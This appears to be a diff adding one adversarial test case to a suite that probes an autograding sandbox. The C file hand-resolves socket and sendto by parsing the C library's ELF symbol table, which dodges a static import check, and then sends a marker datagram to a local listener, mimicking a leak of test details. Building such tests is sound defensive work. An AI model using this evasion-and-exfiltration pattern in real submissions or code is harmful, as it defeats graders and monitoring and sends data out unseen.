@@ -1,0 +1,50 @@
+/* ATTACK 50: sends a datagram with functions that it found by itself in the C library.
+ * assignment: pipe_ring
+ * gains: tells the tests to a friend, past the object check
+ * expect: score<=5
+ * max-score: 5
+ * layers: namespaces, seccomp
+ * off: listener 50d
+ */
+#include "pipe_ring.h"
+
+#include <netinet/in.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+
+/* A dlsym of its own: the C library lies round its stderr, and tells in its dynamic section where its symbols are. */
+static void *library(const char *name)
+{
+	const char *base = (const char *)((uintptr_t)stderr & ~(uintptr_t)4095), *names = NULL, *symbol = NULL;
+	const uint64_t *part, *entry = NULL;
+	while (memcmp(base, "\177ELF", 4) != 0)
+		base -= 4096;
+	for (part = (const uint64_t *)(base + 64); !entry; part += 7)
+		if ((uint32_t)part[0] == 2) /* PT_DYNAMIC */
+			entry = (const uint64_t *)(base + part[2]);
+	for (; entry[0]; entry += 2)
+		if (entry[0] == 5) /* DT_STRTAB */
+			names = (const char *)entry[1];
+		else if (entry[0] == 6) /* DT_SYMTAB */
+			symbol = (const char *)entry[1];
+	for (symbol += 24; symbol < names; symbol += 24)
+		if (*(const uint64_t *)(symbol + 8) && strcmp(names + *(const uint32_t *)symbol, name) == 0)
+			return (void *)(base + *(const uint64_t *)(symbol + 8));
+	return NULL;
+}
+
+int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
+{
+	(void)nodes;
+	(void)laps;
+	(void)token;
+	(void)step;
+	(void)ctx;
+	struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = 0x92b8, .sin_addr.s_addr = 0x0100007f};
+	int (*make)(int, int, int) = (int (*)(int, int, int))library("socket");
+	ssize_t (*send_to)(int, const void *, size_t, int, const struct sockaddr *, socklen_t) =
+	    (ssize_t(*)(int, const void *, size_t, int, const struct sockaddr *, socklen_t))library("sendto");
+	send_to(make(AF_INET, SOCK_DGRAM, 0), "50d\n", 4, 0, (struct sockaddr *)&address, sizeof address);
+	return -1;
+}
